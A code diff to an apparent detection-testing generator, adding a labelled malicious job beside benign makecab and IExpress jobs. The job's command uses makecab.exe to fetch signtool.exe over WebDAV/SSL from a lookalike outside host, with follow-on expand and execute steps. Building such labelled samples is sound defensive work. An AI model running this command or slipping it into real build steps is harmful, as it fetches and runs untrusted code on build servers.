@@ -264,6 +264,14 @@ def jobs(fleet: Fleet, start: datetime) -> list[tuple[Job, Host]]:
                  ".Set CabinetNameTemplate=PrinterDriver.cab\r\n.Set DestinationDir=PrinterDriver\r\n"
                  f".Set DiskDirectoryTemplate={base}\\disk1\r\n"
                  + "".join(f"{base}\\x64\\{n}\r\n" for n in drv))), b)
+    add(Job("build_server_webdav_4688", "attack", "malicious",
+            "a tampered build step on the build server pulls a tool over WebDAV/SSL (Sysmon EID 1 and 4688)",
+            "build", parent="build",
+            command="makecab.exe \\\\nuget-mirror-cdn.com@SSL\\DavWWWRoot\\pkgs\\signtool.exe "
+                    "C:\\build\\tools\\st.cab",
+            sources=[Source("webdav", "nuget-mirror-cdn.com", "104.21.33.190", 443, True, "", "/pkgs/signtool.exe")],
+            cab="C:\\build\\tools\\st.cab", zone_url="https://nuget-mirror-cdn.com/pkgs/signtool.exe",
+            followon=("expand", "exec_exe")), b)
     sed_tmp = f"C:\\Users\\{b.user}\\AppData\\Local\\Temp\\IXP000.TMP"
     add(Job("iexpress_packaging", "benign", "benign",
             "IExpress builds a self-extracting installer; it runs makecab on its own temporary DDF",
